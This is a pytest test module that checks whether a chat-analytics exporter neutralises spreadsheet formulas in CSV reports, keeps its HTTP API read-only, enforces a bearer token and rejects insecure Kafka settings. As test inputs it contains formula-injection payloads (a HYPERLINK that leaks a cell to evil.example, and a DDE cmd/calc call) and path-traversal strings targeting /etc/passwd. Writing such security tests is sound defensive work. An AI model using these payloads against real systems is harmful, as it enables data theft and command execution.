"""Safety of outputs.

- CSV cells a spreadsheet would execute are neutralised with a leading ``'``
  (docs/reports.md: a text cell starting with =, +, -, @, tab or CR; numbers and
  timestamps never are);
- the HTTP API is read-only and rejects path tricks;
- ``CONVOFLOW_API_TOKEN``: requests without ``Authorization: Bearer <token>`` get 401;
- ``CONVOFLOW_KAFKA_SECURITY_PROTOCOL`` & co.: a worker configured for SASL or SSL
  against the PLAINTEXT dev broker fails with a clear error instead of silently working.

The token and Kafka security tests are expected failures (strict) while the
code does not read those settings at all (they are implemented now).
"""
import csv
import io
import os
import re
import time
from pathlib import Path

import pytest

from tests.chaos.conftest import ALL_REPORTS, REPO, SIZES, simulated, unique
from tests.integration.harness import cell_diff
from tests.reference import model

TZ, FIRST, LAST, AS_OF = "Europe/Amsterdam", "2024-10-25", "2024-10-28", "2024-10-29T12:00:00Z"
UNSAFE = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?\Z")


def feature(setting: str) -> bool:
    """Whether the production code reads a setting at all (it may be added while these tests exist)."""
    for folder in ("convoflow", "streams", "exporters", "tables", "web"):
        for path in (REPO / folder).rglob("*.py"):
            if setting in path.read_text(errors="replace"):
                return True
    return False


def missing(setting: str):
    return pytest.mark.xfail(not feature(setting), strict=True,
                             reason=f"{setting} is not implemented: the code never reads it")


CONTENTS = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "+1", "-2", "@x", "\tx", "\rx", "=1+1",
            "@SUM(1+9)*cmd|' /C calc'!A0", "-", "+", "=", "\t", "\r\n=2", "'already quoted", " =leading space",
            "\u00a0=nbsp", "=\u00e9", "x=1", "safe text", "-- sent from my phone"]


def crafted(extra: int = 0):
    """Directory names, identifiers, contents, comments and attribute values a spreadsheet would execute."""
    t = "2024-10-26T{:02d}:{:02d}:00Z"
    evil = CONTENTS + [f"{p}payload-{i}" for i in range(extra) for p in UNSAFE]
    out = [
        {"event_id": "x-ch", "type": "channel.upserted", "occurred_at": t.format(0, 1), "channel_id": "x-ch", "medium": "sms",
         "name": "@channel", "display_name": "=display"},
        {"event_id": "x-agent", "type": "agent.upserted", "occurred_at": t.format(0, 2), "agent_id": "x-agent",
         "name": "=HYPERLINK(\"http://evil\")", "email": "+mail@example.com", "reference": "-ref"},
        {"event_id": "x-team", "type": "team.upserted", "occurred_at": t.format(0, 3), "team_id": "x-team", "name": "+team"},
        {"event_id": "x-topic", "type": "topic.upserted", "occurred_at": t.format(0, 4), "topic_id": "x-topic", "name": "-2+3"},
        {"event_id": "x-tag", "type": "tag.upserted", "occurred_at": t.format(0, 5), "tag_id": "x-tag", "name": "\t=1"},
        {"event_id": "x-va", "type": "virtual_agent.upserted", "occurred_at": t.format(0, 6), "virtual_agent_id": "x-va",
         "name": "@va"},
        {"event_id": "x-attr", "type": "contact.attribute_set", "occurred_at": t.format(0, 7), "contact_profile_id": "x-ct",
         "attribute_id": "x-at", "attribute_name": "=name", "attribute_type": "+TEXT", "value": "=1+2"},
        {"event_id": "x-new", "type": "conversation.status_changed", "occurred_at": t.format(1, 0), "conversation_id": "x-c",
         "status": "NEW", "started_by": "=CONTACT_MESSAGE", "handover_reason": "@reason"},
    ]
    for i, content in enumerate(evil):
        h, m = divmod(i, 60)
        direction = "OUTBOUND" if i % 2 else "INBOUND"
        e = {"event_id": f"x-m{i}", "type": "message.created", "occurred_at": t.format(2 + h, m), "message_id": f"x-m{i}",
             "conversation_id": "x-c", "channel_id": "x-ch", "contact_profile_id": "x-ct", "direction": direction,
             "message_type": "=TEXT", "content": content, "contact_primary_identifier": "=cmd|' /C calc'!A0",
             "contact_secondary_identifier": "@ident", "language": "-en"}
        if direction == "OUTBOUND":
            e.update(agent_id="x-agent", team_id="x-team", origin="+AGENT", outbound_message_type="-REPLY")
        out.append(e)
    h = 3 + len(evil) // 60
    out += [
        {"event_id": "x-lock1", "type": "lock.acquired", "occurred_at": t.format(h, 10), "lock_id": "x-l", "conversation_id": "x-c",
         "agent_id": "x-agent", "team_id": "x-team"},
        {"event_id": "x-lock2", "type": "lock.released", "occurred_at": t.format(h, 20), "lock_id": "x-l", "conversation_id": "x-c",
         "agent_id": "x-agent"},
        {"event_id": "x-topic-ap", "type": "topic.applied", "occurred_at": t.format(h, 21), "conversation_id": "x-c",
         "topic_id": "x-topic", "agent_id": "x-agent", "team_id": "x-team"},
        {"event_id": "x-tag-ap", "type": "tag.applied", "occurred_at": t.format(h, 22), "conversation_id": "x-c", "message_id": "x-m1",
         "tag_id": "x-tag", "virtual_agent_id": "x-va"},
        {"event_id": "x-upd", "type": "message.updated", "occurred_at": t.format(h, 23), "message_id": "x-m3", "conversation_id": "x-c",
         "content": "=updated()"},
        {"event_id": "x-sent", "type": "csat.sent", "occurred_at": t.format(h, 24), "survey_id": "x-s", "conversation_id": "x-c",
         "agent_id": "x-agent", "team_id": "x-team"},
        {"event_id": "x-answer", "type": "csat.answered", "occurred_at": t.format(h, 25), "survey_id": "x-s", "conversation_id": "x-c",
         "completed_status": "@COMPLETED", "score": 5, "follow_up_question": "=q", "follow_up_answer": "+a"},
        {"event_id": "x-res", "type": "conversation.status_changed", "occurred_at": t.format(h, 30), "conversation_id": "x-c",
         "status": "RESOLVED", "resolved_by": "AGENT", "resolve_trigger": "HUMAN_AGENT", "agent_id": "x-agent", "team_id": "x-team",
         "resolve_reason": "-reason", "resolve_comment": "\t=comment"},
        {"event_id": "x-pres", "type": "presence.changed", "occurred_at": t.format(0, 30), "agent_id": "x-agent", "state": "AWAY",
         "away_state": "=lunch"},
    ]
    return out


def cells(body: bytes):
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


@pytest.mark.parametrize("size", SIZES)
def test_spreadsheet_formulas_are_neutralised_in_every_report(chaos_deployment, figures, rng, size):
    events, noisy = simulated(40 if size == "reduced" else 400, seed=rng.randrange(1, 10**6))
    evil = crafted(extra=0 if size == "reduced" else 40)
    events, noisy = events + evil, noisy + evil
    d = chaos_deployment()
    d.start_worker()
    d.publish(noisy)
    bodies = {}
    problems = d.export_all(events, TZ, FIRST, LAST, AS_OF, figures=figures, bodies=bodies)
    unsafe_cells = 0
    for export_type, body in bodies.items():
        for row in cells(body)[1:]:
            for cell in row:
                if cell.startswith(UNSAFE) and not NUMBER.match(cell):
                    unsafe_cells += 1
                    problems.append(f"{export_type}: unsafe cell {cell!r:.80}")
    # The messages export: the Content column of every crafted message.
    rows = cells(bodies["messages"])
    header, rows = rows[0], rows[1:]
    content = {r[header.index("Message ID")]: r[header.index("Content")] for r in rows}
    for e in evil:
        if e["type"] != "message.created":
            continue
        text = "=updated()" if e["message_id"] == "x-m3" else e["content"]
        want = "'" + text if text.startswith(UNSAFE) else text
        if content.get(e["message_id"]) != want:
            problems.append(f"messages: Content of {e['message_id']} is {content.get(e['message_id'])!r}, want {want!r}")
    figures["events"] = len(events)
    figures["crafted_cells"] = len(evil)
    figures["unsafe_cells_found"] = unsafe_cells
    assert not problems, "\n".join(problems[:40])


@pytest.mark.parametrize("size", SIZES)
def test_http_api_is_read_only_and_rejects_path_tricks(chaos_deployment, figures, size):
    d = chaos_deployment()
    w = d.start_worker()
    d.publish(crafted())
    result, body = d.export("messages", "UTC", FIRST, LAST, as_of=AS_OF, request_id="served")
    assert result["status"] == "completed", result
    assert w.request("GET", "/exports/served.csv") == (200, body)
    secret = d.root / "secret.csv"
    secret.write_bytes(b"root:x:0:0:secret\r\n")
    (d.root / "secret").write_bytes(b"root:x:0:0:secret\r\n")
    problems = []
    methods = ("POST", "PUT", "DELETE", "PATCH") + (("OPTIONS", "TRACE", "PROPFIND", "MKCOL") if size == "full" else ())
    for method in methods:
        for path in ("/exports/served.csv", "/exports/x.csv", "/exports/new.csv"):
            status, answer = w.request(method, path, body=b"a,b\r\n=1,2\r\n")
            if status == 200 or status // 100 == 2:
                problems.append(f"{method} {path}: {status} {answer[:80]!r}")
    if w.request("GET", "/exports/served.csv") != (200, body):
        problems.append("the export changed after write attempts")
    if (d.export_dir / "new.csv").exists() or (d.export_dir / "x.csv").exists():
        problems.append("a write request created a file")
    tricks = ["/exports/..%2F..%2Fetc%2Fpasswd", "/exports/%2e%2e/x.csv", "/exports/..%2Fsecret.csv", "/exports/%2e%2e%2fsecret.csv",
              "/exports/..%5csecret.csv", "/exports/../secret.csv", "/exports/%2E%2E/secret.csv", "/exports/..%252Fsecret.csv",
              "/exports/served.csv%00.txt", "/exports/served.csv/..%2F..%2Fsecret.csv", "/exports//etc/passwd",
              "/exports/%2Fetc%2Fpasswd", "/exports/secret", "/exports/..", "/exports/.", "/exports/"]
    if size == "full":
        tricks += [f"/exports/{'..%2F' * n}{target}" for n in range(1, 8) for target in ("etc%2Fpasswd", "secret.csv", "secret")]
        tricks += ["/exports/%c0%ae%c0%ae/secret.csv", "/exports/..%c0%afsecret.csv", "/exports/" + "a" * 5000 + ".csv",
                   "/exports/served.csv?name=../secret.csv", "/exports/served.CSV", "/../secret.csv", "/%2e%2e/secret.csv"]
    for path in tricks:
        status, answer = w.request("GET", path)
        # 200 is fine only for the legitimate export (e.g. a query string is ignored).
        if (status == 200 and answer != body) or b"root:" in answer:
            problems.append(f"GET {path}: {status} {answer[:80]!r}")
    figures["write_attempts"] = len(methods) * 3
    figures["path_tricks"] = len(tricks)
    assert w.alive()
    assert not problems, "\n".join(problems)


@missing("CONVOFLOW_API_TOKEN")
@pytest.mark.parametrize("size", SIZES)
def test_bearer_token_required_when_configured(chaos_deployment, figures, size):
    token = unique("tok-")
    d = chaos_deployment(worker_env={"CONVOFLOW_API_TOKEN": token})
    w = d.start_worker()  # readiness is probed with the token
    d.publish(crafted())
    result, body = d.export("messages", "UTC", FIRST, LAST, as_of=AS_OF, request_id="guarded")
    assert result["status"] == "completed", result
    problems = []
    wrong = [{}, {"Authorization": "Bearer wrong"}, {"Authorization": token}, {"Authorization": f"Basic {token}"},
             {"Authorization": "Bearer "}, {"X-Api-Token": token}]
    if size == "full":
        wrong += [{"Authorization": f"Bearer {token}x"}, {"Authorization": f"Bearer {token[:-1]}"},
                  {"Authorization": f"bearer{token}"}, {"Authorization": f"Bearer  {token} extra"}, {"Cookie": f"token={token}"}]
    for headers in wrong:
        for path in ("/exports/guarded.csv", "/exports/missing.csv", "/exports/..%2Fx"):
            status, answer = w.request("GET", path, headers=headers)
            if status != 401:
                problems.append(f"GET {path} with {headers}: {status}, want 401")
            if b"Message ID" in answer:
                problems.append(f"GET {path} with {headers}: the export was served")
    status, answer = w.request("GET", f"/exports/guarded.csv?token={token}")
    if status != 401:
        problems.append(f"a token in the query string is not a bearer token: {status}")
    status, answer = w.request("GET", "/exports/guarded.csv", headers={"Authorization": f"Bearer {token}"})
    if (status, answer) != (200, body):
        problems.append(f"with the token: {status}")
    for method in ("POST", "DELETE"):
        status, _ = w.request(method, "/exports/guarded.csv", headers={"Authorization": f"Bearer {token}"})
        if status // 100 == 2:
            problems.append(f"{method} with the token: {status}")
    figures["unauthorised_requests"] = len(wrong) * 3 + 1
    assert not problems, "\n".join(problems)


def start_and_expect_refusal(d, env: dict, words: tuple[str, ...], timeout: float = 90):
    """The worker must not run silently: it exits non-zero with a clear message, or at least stays without
    partitions and logs an error naming the problem."""
    w = d.start_worker(env=env, wait=False)
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline and w.alive():
        time.sleep(0.5)
        if w.assigned():
            break
    log = w.log_path.read_text(errors="replace")
    if w.alive():
        assigned = w.assigned()
        w.stop(kill=True)
        raise AssertionError(f"the worker still runs after {timeout} s (partitions {assigned}) with {env}:\n{log[-2000:]}")
    w.stop()
    assert w.proc.returncode != 0, f"the worker exited with 0 with {env}"
    tail = log[-4000:].lower()
    assert all(any(alt.lower() in tail for alt in word.split("|")) for word in words), \
        f"no clear error naming {words}:\n{log[-2000:]}"
    return w.proc.returncode, log


@missing("CONVOFLOW_KAFKA_SECURITY_PROTOCOL")
@pytest.mark.parametrize("size", SIZES)
def test_sasl_against_the_plaintext_broker_fails_clearly(chaos_deployment, figures, size):
    d = chaos_deployment(benign=())
    mechanisms = ["PLAIN"] + (["SCRAM-SHA-256", "SCRAM-SHA-512"] if size == "full" else [])
    try:
        for mechanism in mechanisms:
            env = {"CONVOFLOW_KAFKA_SECURITY_PROTOCOL": "SASL_PLAINTEXT", "CONVOFLOW_KAFKA_SASL_MECHANISM": mechanism,
                   "CONVOFLOW_KAFKA_SASL_USERNAME": "convoflow", "CONVOFLOW_KAFKA_SASL_PASSWORD": "not-the-password"}
            t0 = time.monotonic()
            code, log = start_and_expect_refusal(d, env, ("sasl",))
            figures.add("refusals", {"mechanism": mechanism, "exit": code, "seconds": round(time.monotonic() - t0, 1),
                                     "traceback": "Traceback" in log})
    finally:
        d.workers.clear()  # their logs hold the expected connection errors


@missing("CONVOFLOW_KAFKA_SSL_CAFILE")
@pytest.mark.parametrize("size", SIZES)
def test_ssl_against_the_plaintext_broker_fails_clearly(chaos_deployment, figures, size):
    d = chaos_deployment(benign=())
    bundle = next((p for p in ("/etc/ssl/certs/ca-certificates.crt", "/etc/pki/tls/certs/ca-bundle.crt") if os.path.exists(p)), "")
    cases = [({"CONVOFLOW_KAFKA_SECURITY_PROTOCOL": "SSL", "CONVOFLOW_KAFKA_SSL_CAFILE": bundle}, ("ssl|tls|handshake",))]
    if size == "full":
        cases.append(({"CONVOFLOW_KAFKA_SECURITY_PROTOCOL": "SASL_SSL", "CONVOFLOW_KAFKA_SSL_CAFILE": bundle,
                       "CONVOFLOW_KAFKA_SASL_USERNAME": "u", "CONVOFLOW_KAFKA_SASL_PASSWORD": "p"}, ("ssl|tls|handshake",)))
        cases.append(({"CONVOFLOW_KAFKA_SECURITY_PROTOCOL": "TLS_PLEASE"}, ("CONVOFLOW_KAFKA_SECURITY_PROTOCOL",)))
    try:
        for env, words in cases:
            t0 = time.monotonic()
            code, log = start_and_expect_refusal(d, env, words)
            figures.add("refusals", {"env": env, "exit": code, "seconds": round(time.monotonic() - t0, 1),
                                     "traceback": "Traceback" in log})
    finally:
        d.workers.clear()


@missing("CONVOFLOW_KAFKA_SSL_CAFILE")
@pytest.mark.parametrize("size", SIZES)
def test_a_missing_ssl_ca_file_is_a_clear_error(chaos_deployment, figures, size, tmp_path):
    d = chaos_deployment(benign=())
    names = ["no-such-ca.pem"] + (["missing dir/ca.pem", "ca-\u00e9.pem"] if size == "full" else [])
    protocols = ["SSL"] + (["SASL_SSL"] if size == "full" else [])
    try:
        for name in names:
            for protocol in protocols:
                path = tmp_path / name
                env = {"CONVOFLOW_KAFKA_SECURITY_PROTOCOL": protocol, "CONVOFLOW_KAFKA_SSL_CAFILE": str(path),
                       "CONVOFLOW_KAFKA_SASL_USERNAME": "u", "CONVOFLOW_KAFKA_SASL_PASSWORD": "p"}
                code, log = start_and_expect_refusal(d, env, (f"{path.name}|CONVOFLOW_KAFKA_SSL_CAFILE",))
                figures.add("refusals", {"env": env, "exit": code, "traceback": "Traceback" in log})
                assert "Traceback" not in log, f"a raw traceback instead of a clear error:\n{log[-1500:]}"
    finally:
        d.workers.clear()
